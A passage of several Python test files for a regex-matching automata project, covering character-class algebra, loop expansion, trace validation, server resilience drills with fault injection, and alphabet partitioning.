class TestConstruction:
    def test_single_from_str(self):
        cc = CharClass.single("a")
        assert cc.contains("a")
        assert not cc.contains("b")
        assert cc.is_single()
        assert len(cc) == 1

    def test_single_from_int(self):
        assert CharClass.single(0x41).contains("A")

    def test_single_rejects_multichar(self):
        with pytest.raises(ValueError):
            CharClass.single("ab")

    def test_from_chars(self):
        cc = CharClass.from_chars("abc")
        assert len(cc) == 3
        assert all(c in cc for c in "abc")

    def test_from_range(self):
        cc = CharClass.from_range("a", "f")
        assert len(cc) == 6
        assert "a" in cc and "f" in cc and "g" not in cc

    def test_from_range_reversed_rejected(self):
        with pytest.raises(ValueError):
            CharClass.from_range("f", "a")

    def test_posix_digit(self):
        cc = CharClass.posix("digit")
        assert len(cc) == 10
        assert "0" in cc and "9" in cc and "a" not in cc

    def test_posix_unknown(self):
        with pytest.raises(ValueError):
            CharClass.posix("bogus")

    def test_any_char_excludes_newline(self):
        cc = CharClass.any_char()
        assert "\n" not in cc
        assert len(cc) == ALPHABET_SIZE - 1

    def test_any_char_with_newline(self):
        assert len(CharClass.any_char(include_newline=True)) == ALPHABET_SIZE

    def test_mask_bounds(self):
        with pytest.raises(ValueError):
            CharClass(-1)
        with pytest.raises(ValueError):
            CharClass(FULL_MASK + 1)

    def test_cached_single_identity(self):
        assert single("a") is single("a")
        assert single("a") == CharClass.single("a")


class TestSetAlgebra:
    def test_union_intersection_difference(self):
        ab = CharClass.from_chars("ab")
        bc = CharClass.from_chars("bc")
        assert (ab | bc) == CharClass.from_chars("abc")
        assert (ab & bc) == CharClass.single("b")
        assert (ab - bc) == CharClass.single("a")

    def test_negate_involution(self):
        cc = CharClass.from_chars("xyz")
        assert ~~cc == cc

    def test_empty_and_full(self):
        assert CharClass.empty().is_empty()
        assert len(CharClass.full()) == ALPHABET_SIZE
        assert ~CharClass.empty() == CharClass.full()

    def test_overlaps(self):
        assert CharClass.from_chars("ab").overlaps(CharClass.from_chars("bc"))
        assert not CharClass.single("a").overlaps(CharClass.single("b"))


class TestQueries:
    def test_chars_sorted(self):
        cc = CharClass.from_chars("cab")
        assert [chr(b) for b in cc.chars()] == ["a", "b", "c"]

    def test_sample_smallest(self):
        assert CharClass.from_chars("zya").sample() == ord("a")

    def test_sample_empty_raises(self):
        with pytest.raises(ValueError):
            CharClass.empty().sample()

    def test_equality_and_hash(self):
        a = CharClass.from_chars("ab")
        b = CharClass.from_range("a", "b")
        assert a == b
        assert hash(a) == hash(b)
        assert a != CharClass.single("a")
        assert a != "ab"  # not a CharClass


class TestRendering:
    def test_single_char(self):
        assert CharClass.single("a").pattern() == "a"

    def test_special_char_escaped(self):
        assert CharClass.single(".").pattern() == "\\."
        assert CharClass.single("+").pattern() == "\\+"

    def test_nonprintable_hex(self):
        assert CharClass.single(0x01).pattern() == "\\x01"

    def test_range_rendering(self):
        assert CharClass.from_range("a", "f").pattern() == "[a-f]"

    def test_mixed_rendering(self):
        cc = CharClass.from_chars("af") | CharClass.from_range("0", "4")
        assert cc.pattern() == "[0-4af]"

    def test_dot_rendering(self):
        assert CharClass.any_char().pattern() == "."

    def test_negated_rendering_for_large_classes(self):
        cc = ~CharClass.single("\n") - CharClass.single("a")
        text = cc.pattern()
        assert text.startswith("[^")
        assert "a" in text

    def test_roundtrip_through_lexer(self):
        """pattern() output re-lexes to the identical class."""
        from repro.frontend.lexer import tokenize, TokenKind

        for cc in (
            CharClass.from_chars("ab"),
            CharClass.from_range("0", "9"),
            CharClass.single("]"),
            CharClass.from_chars("-^]"),
        ):
            tokens = tokenize(cc.pattern())
            assert tokens[0].kind in (TokenKind.CHAR, TokenKind.CHARCLASS)
            if tokens[0].kind is TokenKind.CHARCLASS:
                assert tokens[0].value == cc
            else:
                assert CharClass.single(tokens[0].value) == cc


@given(st.sets(st.integers(min_value=0, max_value=255), min_size=0, max_size=40))
def test_from_chars_membership_property(chars):
    cc = CharClass.from_chars(chars)
    assert set(cc.chars()) == chars
    assert len(cc) == len(chars)


@given(
    st.sets(st.integers(min_value=0, max_value=255), max_size=20),
    st.sets(st.integers(min_value=0, max_value=255), max_size=20),
)
def test_set_algebra_matches_python_sets(xs, ys):
    a, b = CharClass.from_chars(xs), CharClass.from_chars(ys)
    assert set((a | b).chars()) == xs | ys
    assert set((a & b).chars()) == xs & ys
    assert set((a - b).chars()) == xs - ys


@given(st.sets(st.integers(min_value=0, max_value=255), min_size=1, max_size=60))
def test_pattern_relex_roundtrip_property(chars):
    """Any class's rendered pattern re-lexes to the identical class —
    including negated renderings, ranges and escapes."""
    from repro.frontend.lexer import TokenKind, tokenize

    cc = CharClass.from_chars(chars)
    token = tokenize(cc.pattern())[0]
    if token.kind is TokenKind.CHAR:
        assert CharClass.single(token.value) == cc
    else:
        assert token.value == cc


class TestPosixClassesComplete:
    """Every named POSIX class resolves with the right cardinalities."""

    EXPECTED_SIZES = {
        "alnum": 62, "alpha": 52, "blank": 2, "cntrl": 33, "digit": 10,
        "graph": 94, "lower": 26, "print": 95, "punct": 32, "space": 6,
        "upper": 26, "xdigit": 22,
    }

    def test_sizes(self):
        for name, size in self.EXPECTED_SIZES.items():
            assert len(CharClass.posix(name)) == size, name

    def test_disjoint_structure(self):
        alnum = CharClass.posix("alnum")
        punct = CharClass.posix("punct")
        assert not alnum.overlaps(punct)
        assert (CharClass.posix("upper") | CharClass.posix("lower") |
                CharClass.posix("digit")) == alnum

    def test_graph_is_print_minus_space(self):
        assert CharClass.posix("graph") == \
            CharClass.posix("print") - CharClass.single(" ")

    def test_xdigit_subset_of_alnum(self):
        xdigit = CharClass.posix("xdigit")
        assert (xdigit & CharClass.posix("alnum")) == xdigit
