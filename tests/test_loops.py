"""Unit tests for loop expansion (paper §IV-C pass 2, Fig. 5a)."""

from hypothesis import given, settings

from repro.automata.epsilon import remove_epsilon
from repro.automata.loops import LoopExpansionReport, expand_loops
from repro.automata.simulate import accepts
from repro.automata.thompson import thompson_construct
from repro.frontend.ast import Repeat
from repro.frontend.parser import parse

from conftest import ere_patterns, input_strings


def has_finite_repeat(node) -> bool:
    return any(
        isinstance(n, Repeat) and not (n.low, n.high) in ((0, None), (1, None))
        for n in node.walk()
    )


class TestExpansion:
    def test_exact_repeat_becomes_concat(self):
        node = expand_loops(parse("(fg){2}"))
        assert node == parse("fgfg")

    def test_range_repeat(self):
        node = expand_loops(parse("a{1,3}"))
        assert not has_finite_repeat(node)
        fsa = thompson_construct(node)
        assert accepts(fsa, "a") and accepts(fsa, "aaa")
        assert not accepts(fsa, "") and not accepts(fsa, "aaaa")

    def test_zero_repeat(self):
        node = expand_loops(parse("a{0}b"))
        assert node == parse("b")

    def test_optional_becomes_alternation(self):
        node = expand_loops(parse("a{0,1}"))
        assert not has_finite_repeat(node)

    def test_open_bound_keeps_star(self):
        node = expand_loops(parse("a{2,}"))
        assert node == parse("aa(a)*") or node.pattern() == "aaa*"
        fsa = thompson_construct(node)
        assert not accepts(fsa, "a")
        assert accepts(fsa, "aa") and accepts(fsa, "aaaaa")

    def test_star_and_plus_untouched(self):
        report = LoopExpansionReport()
        node = expand_loops(parse("a*b+"), report=report)
        assert node == parse("a*b+")
        assert report.kept_unbounded == 2
        assert report.expanded == 0

    def test_nested_bounds(self):
        node = expand_loops(parse("(a{2}){2}"))
        assert node == parse("aaaa")

    def test_report_counts(self):
        report = LoopExpansionReport()
        expand_loops(parse("a{2}b{1,2}c*"), report=report)
        assert report.expanded == 2
        assert report.kept_unbounded == 1

    def test_budget_guard(self):
        report = LoopExpansionReport()
        node = expand_loops(parse("a{1000}"), budget=10, report=report)
        assert report.over_budget == ["a{1000}"]
        assert has_finite_repeat(node)  # left compressed

    def test_fig5a_merging_motivation(self):
        """Expanded (fg){1,2} shares a plain fgfg prefix path (Fig. 5a)."""
        expanded = expand_loops(parse("(fg){2}"))
        other = parse("fgab")
        assert expanded.pattern()[:2] == other.pattern()[:2]


@given(ere_patterns(), input_strings())
@settings(max_examples=150, deadline=None)
def test_expansion_preserves_language(pattern, text):
    original = thompson_construct(parse(pattern))
    expanded = thompson_construct(expand_loops(parse(pattern)))
    assert accepts(original, text) == accepts(expanded, text)


@given(ere_patterns())
@settings(max_examples=100, deadline=None)
def test_expansion_removes_finite_repeats(pattern):
    node = expand_loops(parse(pattern))
    assert not has_finite_repeat(node)
