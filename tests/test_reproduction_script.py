"""Smoke test for the one-shot reproduction driver."""

import importlib.util
import sys
from pathlib import Path

SCRIPT = Path(__file__).resolve().parent.parent / "scripts" / "run_full_reproduction.py"


def load_script():
    spec = importlib.util.spec_from_file_location("run_full_reproduction", SCRIPT)
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module


class TestDriver:
    def test_tiny_run_lands_in_bands(self, tmp_path, capsys):
        module = load_script()
        code = module.main(["--scale", "20", "--stream-size", "512",
                            "--out", str(tmp_path / "results")])
        out = capsys.readouterr().out
        assert code == 0, out
        assert "HEADLINE SUMMARY" in out
        assert out.count("[ok ]") == 5
        assert (tmp_path / "results" / "manifest.json").exists()
        assert "Fig. 7" in out and "Table II" in out
