"""End-to-end observability smoke (the `make obs-smoke` target).

Compiles a small builtin ruleset with tracing on, matches 64 KB of
stream, and validates the emitted Chrome-trace JSON against the
trace-event schema: strict key/type checks, events well-nested per
thread lane, stage spans summing (within 10%) to the reported compile
total, and the Prometheus export carrying the active-set histogram.
"""

from __future__ import annotations

import json

import pytest

import repro.obs as obs
from repro.cli import _demo_stream
from repro.datasets import load_builtin
from repro.engine.imfant import IMfantEngine
from repro.engine.multithread import run_pool
from repro.pipeline.compiler import CompileOptions, compile_ruleset

STREAM_BYTES = 64 * 1024

#: required keys and types for a complete ("X") trace event
_X_SCHEMA = {
    "name": str,
    "cat": str,
    "ph": str,
    "ts": (int, float),
    "dur": (int, float),
    "pid": int,
    "tid": int,
    "args": dict,
}


@pytest.fixture(scope="module")
def smoke_capture():
    patterns = list(load_builtin("tokens_exact").patterns)
    data = _demo_stream(patterns, STREAM_BYTES, seed=3)
    assert len(data) == STREAM_BYTES
    with obs.capture(stride=64) as cap:
        result = compile_ruleset(patterns, CompileOptions(merging_factor=0))
        engines = [IMfantEngine(m) for m in result.mfsas]
        matches, stats = run_pool([lambda e=e: e.run(data) for e in engines], 2)
    cap.tracer.validate()
    return cap, result, stats


@pytest.mark.obs
def test_chrome_trace_schema_strict(smoke_capture):
    cap, _result, _stats = smoke_capture
    trace = obs.spans_to_chrome_trace(cap.tracer)

    assert isinstance(trace, dict)
    assert isinstance(trace["traceEvents"], list)
    assert trace["displayTimeUnit"] in ("ms", "ns")
    assert trace["traceEvents"], "no events captured"

    for event in trace["traceEvents"]:
        assert event["ph"] in ("X", "M"), event
        if event["ph"] == "M":
            assert event["name"] == "thread_name"
            assert isinstance(event["args"]["name"], str)
            continue
        for key, expected_type in _X_SCHEMA.items():
            assert key in event, f"missing key {key!r} in {event['name']}"
            assert isinstance(event[key], expected_type), (event["name"], key)
        assert event["ts"] >= 0
        assert event["dur"] >= 0
    # round-trips through JSON
    assert json.loads(json.dumps(trace)) == trace


@pytest.mark.obs
def test_chrome_trace_events_well_nested(smoke_capture):
    """Within each thread lane, events form a proper nesting (no partial
    overlap): sorted by start, every event either contains or is disjoint
    from the next."""
    cap, _result, _stats = smoke_capture
    trace = obs.spans_to_chrome_trace(cap.tracer)
    lanes: dict[int, list[tuple[float, float, str]]] = {}
    for event in trace["traceEvents"]:
        if event["ph"] != "X":
            continue
        lanes.setdefault(event["tid"], []).append(
            (event["ts"], event["ts"] + event["dur"], event["name"])
        )
    tolerance = 2.0  # µs clock-read slack
    assert lanes
    for lane in lanes.values():
        lane.sort()
        stack: list[tuple[float, float, str]] = []
        for start, end, name in lane:
            while stack and start >= stack[-1][1] - tolerance:
                stack.pop()
            if stack:
                assert end <= stack[-1][1] + tolerance, (
                    f"{name} partially overlaps {stack[-1][2]}"
                )
            stack.append((start, end, name))


@pytest.mark.obs
def test_stage_spans_sum_to_compile_total(smoke_capture):
    cap, result, _stats = smoke_capture
    by_name: dict[str, list] = {}
    for span in cap.tracer.spans():
        by_name.setdefault(span.name, []).append(span)
    (root,) = by_name["compile"]
    stage_sum = sum(
        by_name[f"compile.{stage}"][0].duration
        for stage in ("frontend", "ast_to_fsa", "single_opt", "merging", "backend")
    )
    # acceptance criterion: stage spans sum to the total within 10%
    assert stage_sum == pytest.approx(root.duration, rel=0.10)
    # and the spans agree with the StageTimes the reporting layer uses
    assert stage_sum == pytest.approx(result.stage_times.total, rel=0.10)


@pytest.mark.obs
def test_prometheus_export_contains_active_set_histogram(smoke_capture):
    cap, _result, stats = smoke_capture
    text = obs.metrics_to_prometheus(cap.registry)
    assert "# TYPE imfant_active_set_size histogram" in text
    assert 'imfant_active_set_size_bucket{le="+Inf"}' in text
    assert "imfant_active_set_size_count" in text
    hist = cap.registry.get("imfant_active_set_size")
    assert hist.count == STREAM_BYTES // 64
    # sampled distribution is consistent with the exhaustive work counter
    assert 0 <= hist.sum <= stats.active_pair_total


@pytest.mark.obs
def test_worker_lanes_present(smoke_capture):
    cap, _result, _stats = smoke_capture
    workers = [s for s in cap.tracer.spans() if s.name == "run_pool.worker"]
    (pool,) = [s for s in cap.tracer.spans() if s.name == "run_pool"]
    assert workers
    assert all(w.parent_id == pool.span_id for w in workers)
