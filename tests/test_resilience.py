"""Self-healing serve tests: retries, supervision, admission, reload.

The chaos drills for docs/robustness.md's "serve resilience" section:
unit tests for the :mod:`repro.serve.resilience` primitives (pure state
machines — no sockets), then pool- and service-level drills driven by
the ``serve.worker.*`` / ``serve.conn.*`` fault points: hung workers
killed by the watchdog and rescued exactly, kill storms opening the
circuit breaker with inline dispatcher scans behind it, heartbeat
probes restarting dead executors, admission control shedding with
Retry-After hints, and hot ruleset reloads that drop nothing.

Everything here carries the ``chaos`` marker (``make chaos-smoke``).
"""

from __future__ import annotations

import asyncio
import random
import threading
import time

import pytest

import repro.obs as obs
from repro.engine.imfant import IMfantEngine
from repro.guard import faultinject
from repro.guard.errors import ConnectionLost, UsageError
from repro.pipeline.compiler import CompileOptions
from repro.serve import (
    AdmissionController,
    ArtifactStore,
    DedupWindow,
    MatchClient,
    MatchRequest,
    RetryPolicy,
    ServeConfig,
    ServerThread,
    ShardPool,
    ShardSupervisor,
)
from repro.serve.protocol import encode_payload
from repro.serve.server import MatchService

pytestmark = pytest.mark.chaos

PATTERNS = ["needle", "boundary", "ha[py]{2}stack", "x[0-9]{1,3}y"]
PAYLOAD = (b"xy" * 300 + b"needle" + b"z" * 200 + b"happystack"
           + b"no" * 150 + b"x42y" + b"boundary")


@pytest.fixture(scope="module")
def artifact(tmp_path_factory):
    store = ArtifactStore(tmp_path_factory.mktemp("chaos-artifacts"))
    return store.get_or_compile(PATTERNS, CompileOptions(emit_anml=False))


def _oracle(artifact, payload: bytes) -> set:
    text = payload.decode("latin-1")
    matches: set = set()
    for mfsa in artifact.mfsas:
        matches |= IMfantEngine(mfsa).run(text).matches
    return matches


# ---------------------------------------------------------------------------
# RetryPolicy
# ---------------------------------------------------------------------------


def test_retry_policy_validation():
    with pytest.raises(UsageError):
        RetryPolicy(max_attempts=0)
    with pytest.raises(UsageError):
        RetryPolicy(base_delay=-0.1)
    with pytest.raises(UsageError):
        RetryPolicy(multiplier=0.5)
    with pytest.raises(UsageError):
        RetryPolicy(op_deadline=0)


def test_retry_policy_full_jitter_bounds():
    """Each backoff is uniform on [0, cap]: never negative, never past
    the exponential cap, never past max_delay."""
    policy = RetryPolicy(base_delay=0.1, max_delay=1.0, multiplier=2.0)
    rng = random.Random(7)
    for attempt in range(8):
        cap = min(1.0, 0.1 * 2.0 ** attempt)
        for _ in range(25):
            delay = policy.delay(attempt, rng)
            assert 0.0 <= delay <= cap


def test_retry_policy_none_is_single_attempt():
    assert RetryPolicy.none().max_attempts == 1


# ---------------------------------------------------------------------------
# DedupWindow
# ---------------------------------------------------------------------------


def test_dedup_window_validation():
    with pytest.raises(UsageError):
        DedupWindow(ttl=0)
    with pytest.raises(UsageError):
        DedupWindow(max_entries=0)


def test_dedup_window_replay_and_lru_eviction():
    window = DedupWindow(ttl=30.0, max_entries=2)
    window.put("a", {"id": 1})
    window.put("b", {"id": 2})
    assert window.get("a") == {"id": 1}
    assert window.hits == 1
    window.put("c", {"id": 3})  # evicts "b": the hit refreshed "a"
    assert window.get("b") is None
    assert window.get("a") is not None and window.get("c") is not None
    assert len(window) == 2


def test_dedup_window_ttl_expiry():
    window = DedupWindow(ttl=0.05)
    window.put("k", {"id": 1})
    assert window.get("k") is not None
    time.sleep(0.1)
    assert window.get("k") is None
    assert len(window) == 0


# ---------------------------------------------------------------------------
# AdmissionController
# ---------------------------------------------------------------------------


def test_admission_validation():
    with pytest.raises(UsageError):
        AdmissionController(target=0)
    with pytest.raises(UsageError):
        AdmissionController(window=0)


def test_admission_watches_minimum_not_mean():
    """One fast request inside the window proves the queue is a burst,
    not standing overload — CoDel's core discrimination."""
    burst = AdmissionController(target=0.05, window=5.0)
    burst.observe(0.5)
    burst.observe(0.001)  # somebody got through fast
    assert not burst.should_shed()

    standing = AdmissionController(target=0.05, window=5.0)
    for _ in range(5):
        standing.observe(0.2)  # even the luckiest request waited 4× target
    assert standing.should_shed()
    hint = standing.shed()
    assert hint >= standing.target
    assert standing.shed_total == 1


def test_admission_idle_admits_and_window_slides():
    controller = AdmissionController(target=0.01, window=0.05)
    assert controller.min_wait() is None and not controller.should_shed()
    controller.observe(1.0)
    assert controller.should_shed()
    time.sleep(0.1)  # the bad observation ages out of the window
    assert controller.min_wait() is None and not controller.should_shed()


# ---------------------------------------------------------------------------
# ShardSupervisor
# ---------------------------------------------------------------------------


def test_supervisor_restarts_with_backoff_then_hands_to_ladder():
    supervisor = ShardSupervisor(max_restarts=2, backoff_base=0.01,
                                 backoff_max=1.0, storm_threshold=100)
    rng = random.Random(3)
    first = supervisor.on_failure(rng)
    assert first.restart and 0.0 <= first.delay <= 0.01
    second = supervisor.on_failure(rng)
    assert second.restart and second.delay <= 0.02  # exponential cap grew
    third = supervisor.on_failure(rng)
    # consecutive budget exhausted: no restart, no breaker — the caller's
    # next rung (the backend degradation ladder) takes over
    assert not third.restart and not third.breaker_open
    assert supervisor.restarts_total == 2
    supervisor.record_success()  # a completed scan resets the sequence
    assert supervisor.on_failure(rng).restart


def test_supervisor_storm_opens_breaker_and_cooldown_closes_it():
    supervisor = ShardSupervisor(max_restarts=100, storm_threshold=2,
                                 storm_window=30.0, cooldown=0.15,
                                 backoff_base=0.0, backoff_max=0.0)
    rng = random.Random(3)
    assert supervisor.on_failure(rng).restart
    assert supervisor.on_failure(rng).restart
    storm = supervisor.on_failure(rng)  # third failure inside the window
    assert not storm.restart and storm.breaker_open
    assert supervisor.breaker_open() and supervisor.breaker_remaining() > 0
    assert supervisor.breaker_opens_total == 1
    while_open = supervisor.on_failure(rng)
    assert not while_open.restart and while_open.breaker_open
    time.sleep(0.2)
    assert not supervisor.breaker_open()
    snapshot = supervisor.snapshot()
    assert snapshot["restarts_total"] == 2
    assert snapshot["breaker_opens_total"] == 1
    assert snapshot["breaker_open"] is False


# ---------------------------------------------------------------------------
# Pool drills: hung workers, kill storms, heartbeats
# ---------------------------------------------------------------------------


def test_watchdog_kills_hung_worker_and_rescues_exactly(artifact):
    """A process worker wedged past 2× the scan deadline is hard-killed
    and its chunk re-scanned inline — the answer stays exact (the SFA
    mapping recomputes identically on the dispatcher), well before the
    injected 30s hang would have returned."""
    oracle = _oracle(artifact, PAYLOAD)
    deadline = 0.3
    with faultinject.inject("serve.worker.hang", 30.0):
        with obs.capture() as cap:
            with ShardPool(artifact, num_shards=2, mode="process",
                           scan_strategy="sfa") as pool:
                started = time.perf_counter()
                result = pool.scan(PAYLOAD, deadline=deadline)
                elapsed = time.perf_counter() - started
    assert result.full_matches() == oracle  # exact, not partial
    assert not result.partial
    assert pool.supervisor.hangs_total >= 1
    # detected at deadline + one extra budget (2× total), rescued inline
    assert elapsed < 10.0
    hangs = cap.registry.get("serve_worker_hangs_total")
    rescued = cap.registry.get("serve_rescued_jobs_total")
    assert hangs is not None and hangs.value >= 1
    assert rescued is not None and rescued.value >= 1


def test_kill_storm_opens_breaker_and_scans_inline(artifact):
    """Workers that die on every scan entry: the supervisor restarts,
    the ladder degrades, the storm opens the breaker — and the scan
    still returns the exact match set via inline dispatcher rescue."""
    oracle = _oracle(artifact, PAYLOAD)
    supervisor = ShardSupervisor(max_restarts=1, backoff_base=0.0,
                                 backoff_max=0.0, storm_threshold=2,
                                 storm_window=30.0, cooldown=60.0)
    with faultinject.inject("serve.worker.kill", True):
        with obs.capture() as cap:
            with ShardPool(artifact, num_shards=2, mode="process",
                           supervisor=supervisor) as pool:
                result = pool.scan(PAYLOAD)
                assert result.full_matches() == oracle
                assert supervisor.breaker_opens_total == 1
                assert supervisor.breaker_open()
                # while open, scans bypass the crash loop entirely
                again = pool.scan(PAYLOAD)
                assert again.full_matches() == oracle
    restarts = cap.registry.get("serve_supervisor_restarts_total")
    inline = cap.registry.get("serve_breaker_inline_scans_total")
    assert restarts is not None and restarts.value >= 2
    assert inline is not None and inline.value >= 1
    assert supervisor.restarts_total >= 2


def test_heartbeat_probe_detects_dead_workers_and_recovers(artifact):
    oracle = _oracle(artifact, PAYLOAD)
    with ShardPool(artifact, num_shards=2, mode="process") as pool:
        assert pool.scan(PAYLOAD).full_matches() == oracle
        assert pool.heartbeat() is True
        assert pool.last_heartbeat_ok is True
        for process in list(pool._executor._processes.values()):
            process.kill()  # simulated OOM-kill between scans
        assert pool.heartbeat(timeout=5.0) is False
        assert pool.last_heartbeat_ok is False
        assert pool.supervisor.restarts_total >= 1
        # the probe dropped the broken executor: the next scan rebuilds
        assert pool.scan(PAYLOAD).full_matches() == oracle
        assert pool.heartbeat() is True


def test_retired_pool_refuses_new_pins(artifact):
    pool = ShardPool(artifact, num_shards=1)
    pool.acquire()
    pool.close()  # retired, but held open by the in-flight pin
    with pytest.raises(UsageError):
        pool.acquire()
    assert pool.heartbeat() is False  # retired pools report unhealthy
    pool.release()  # last pin out → executor actually shut down


# ---------------------------------------------------------------------------
# Service drills: admission, health, reload
# ---------------------------------------------------------------------------


def _collecting_reply(replies: list):
    async def reply(document):
        replies.append(document)
    return reply


def test_admission_observes_real_queue_waits(artifact):
    config = ServeConfig(shards=1, admission_target=0.5, admission_window=30.0)
    replies: list = []

    async def scenario():
        service = MatchService(artifact, config)
        await service.start()
        try:
            request = MatchRequest.from_document(
                {"id": 1, "payload": encode_payload(b"needle")}
            )
            await service.submit(request, _collecting_reply(replies))
            while not replies:
                await asyncio.sleep(0.005)
            # the dispatcher fed the measured queue wait to the controller
            assert service.admission is not None
            assert service.admission.min_wait() is not None
        finally:
            await service.stop()

    asyncio.run(scenario())
    assert replies[0]["status"] == "ok"


def test_admission_sheds_standing_overload_with_retry_after(artifact):
    config = ServeConfig(shards=1, admission_target=0.005, admission_window=30.0)
    replies: list = []

    async def scenario():
        service = MatchService(artifact, config)
        await service.start()
        try:
            # a standing queue: every recent dispatch waited 100× target
            for _ in range(3):
                service.admission.observe(0.5)
            request = MatchRequest.from_document(
                {"id": 7, "payload": encode_payload(b"needle")}
            )
            await service.submit(request, _collecting_reply(replies))
        finally:
            await service.stop()
        return service

    with obs.capture() as cap:
        service = asyncio.run(scenario())
    assert replies and replies[0]["status"] == "rejected"
    assert replies[0]["code"] == 429
    assert replies[0]["retry_after_ms"] >= config.admission_target * 1000.0
    assert service.admission.shed_total == 1
    shed = cap.registry.get("serve_admission_shed_total")
    assert shed is not None and shed.value == 1


def test_health_op_reflects_breaker_state(artifact):
    server = ServerThread(artifact, ServeConfig(shards=1)).start()
    try:
        with MatchClient.connect(server.address, retry=RetryPolicy.none()) as client:
            document = client.health()
            assert document["status"] == "ok" and document["code"] == 200
            assert document["healthy"] and document["ready"]
            assert all(document["checks"].values())
            # open the worker breaker: the probe must flip to 503
            server.service.supervisor._open_until = time.monotonic() + 60.0
            document = client.health()
            assert document["status"] == "unavailable" and document["code"] == 503
            assert document["healthy"] and not document["ready"]
            assert document["checks"]["worker_breaker_closed"] is False
            server.service.supervisor._open_until = 0.0
            assert client.health()["ready"]
    finally:
        server.stop()


def test_reload_refused_without_store_and_when_disabled(artifact, tmp_path):
    with ServerThread(artifact, ServeConfig(shards=1)) as address:  # no store
        with MatchClient.connect(address) as client:
            with pytest.raises(UsageError, match="reload"):
                client.reload(["abc"])
            assert client.ping()  # the refusal does not poison the stream

    store = ArtifactStore(tmp_path)
    art = store.get_or_compile(["abc"], CompileOptions(emit_anml=False))
    config = ServeConfig(shards=1, allow_reload=False)
    with ServerThread(art, config, store=store) as address:
        with MatchClient.connect(address) as client:
            with pytest.raises(UsageError):
                client.reload(["abd"])
            with pytest.raises(UsageError):  # and validation still applies
                client.reload([])
            assert client.ping()


def test_hot_reload_drops_nothing_under_traffic(tmp_path):
    """The headline reload guarantee: clients hammering the service
    across two ruleset swaps see only complete, correct answers — every
    match set is exactly one ruleset's oracle, before or after."""
    store = ArtifactStore(tmp_path)
    art_a = store.get_or_compile(["alpha", "needle"], CompileOptions(emit_anml=False))
    art_b = store.get_or_compile(["beta", "needle"], CompileOptions(emit_anml=False))
    payload = b"..alpha..needle..beta.." * 3
    oracle_a = frozenset(_oracle(art_a, payload))
    oracle_b = frozenset(_oracle(art_b, payload))
    assert oracle_a != oracle_b

    server = ServerThread(art_a, ServeConfig(shards=2), store=store).start()
    stop = threading.Event()
    outcomes: list = []
    errors: list = []

    def hammer():
        try:
            with MatchClient.connect(
                server.address, retry=RetryPolicy(max_attempts=4)
            ) as client:
                while not stop.is_set():
                    result = client.match(payload)
                    outcomes.append((result.status, frozenset(result.matches)))
        except Exception as exc:  # noqa: BLE001 — the test asserts emptiness
            errors.append(exc)

    threads = [threading.Thread(target=hammer, daemon=True) for _ in range(2)]
    try:
        for thread in threads:
            thread.start()
        time.sleep(0.25)
        with MatchClient.connect(server.address) as admin:
            info = admin.reload(["beta", "needle"])
            assert info["swaps"] == 1 and info["rules"] == 2
            time.sleep(0.25)
            info = admin.reload(["alpha", "needle"])
            assert info["swaps"] == 2
            time.sleep(0.25)
            stats = admin.server_stats()
    finally:
        stop.set()
        for thread in threads:
            thread.join(timeout=30)
        server.stop()

    assert not errors
    assert len(outcomes) > 10
    assert all(status == "ok" for status, _ in outcomes)  # zero dropped
    valid = {oracle_a, oracle_b}
    assert all(matches in valid for _, matches in outcomes)  # zero incorrect
    assert stats["reload_swaps"] == 2


def test_frame_truncate_drill_recovers_with_retry(artifact):
    """Torn reply frames: fail-fast clients see a typed ConnectionLost;
    retrying clients reconnect and still get exact answers."""
    oracle = _oracle(artifact, PAYLOAD)
    with ServerThread(artifact, ServeConfig(shards=1)) as address:
        with MatchClient.connect(address, retry=RetryPolicy.none()) as bare:
            with faultinject.inject("serve.frame.truncate", True):
                with pytest.raises(ConnectionLost):
                    bare.match(PAYLOAD)
        with MatchClient.connect(
            address, retry=RetryPolicy(max_attempts=8)
        ) as client:
            with faultinject.inject("serve.frame.truncate", 0.5):
                for _ in range(4):
                    assert client.match(PAYLOAD).matches == oracle
            assert client.reconnects >= 1


def test_server_heartbeat_loop_sets_gauge(artifact):
    config = ServeConfig(shards=1, heartbeat_interval=0.05)
    with obs.capture() as cap:
        server = ServerThread(artifact, config).start()
        try:
            with MatchClient.connect(server.address) as client:
                assert client.match(PAYLOAD).ok
                deadline = time.monotonic() + 5.0
                while time.monotonic() < deadline:
                    if server.service.pool.last_heartbeat_ok:
                        break
                    time.sleep(0.05)
                else:
                    pytest.fail("heartbeat probe never completed")
                assert client.health()["checks"]["worker_heartbeat"]
        finally:
            server.stop()
    gauge = cap.registry.get("serve_heartbeat_ok")
    assert gauge is not None and gauge.value == 1
