"""Tests for partial character-class merging (alphabet stratification)."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.automata.optimize import compile_re_to_fsa
from repro.automata.simulate import accepts, find_match_ends
from repro.labels import CharClass
from repro.mfsa.activation import reference_match
from repro.mfsa.ccpartial import alphabet_partition, stratify_ruleset
from repro.mfsa.merge import merge_fsas

from conftest import compile_ruleset_fsas


class TestPartition:
    def test_disjoint_masks_stay(self):
        a, b = CharClass.from_chars("ab").mask, CharClass.from_chars("cd").mask
        blocks = alphabet_partition([a, b])
        assert a in blocks and b in blocks

    def test_overlap_is_split(self):
        abce = CharClass.from_chars("abce").mask
        bcd = CharClass.from_chars("bcd").mask
        blocks = alphabet_partition([abce, bcd])
        common = CharClass.from_chars("bc").mask
        assert common in blocks  # the paper's shared [bc]
        assert CharClass.from_chars("ae").mask in blocks
        assert CharClass.single("d").mask in blocks

    def test_blocks_partition_alphabet(self):
        masks = [CharClass.from_chars("abc").mask, CharClass.from_chars("bx").mask]
        blocks = alphabet_partition(masks)
        union = 0
        for block in blocks:
            assert union & block == 0  # pairwise disjoint
            union |= block
        from repro.labels import FULL_MASK

        assert union == FULL_MASK

    def test_every_mask_is_union_of_blocks(self):
        masks = [CharClass.from_chars("abcd").mask, CharClass.from_chars("cdef").mask,
                 CharClass.single("a").mask]
        blocks = alphabet_partition(masks)
        for mask in masks:
            covered = sum(b for b in blocks if b & mask)
            assert covered == mask


class TestStratify:
    def test_splits_overlapping_classes(self):
        fsas = [compile_re_to_fsa("[abce]x"), compile_re_to_fsa("[bcd]x")]
        strat = stratify_ruleset(fsas)
        # [abce] splits into [bc] + [ae]; [bcd] into [bc] + d
        labels0 = {t.label.mask for t in strat[0].transitions}
        labels1 = {t.label.mask for t in strat[1].transitions}
        assert CharClass.from_chars("bc").mask in labels0 & labels1

    def test_language_preserved(self):
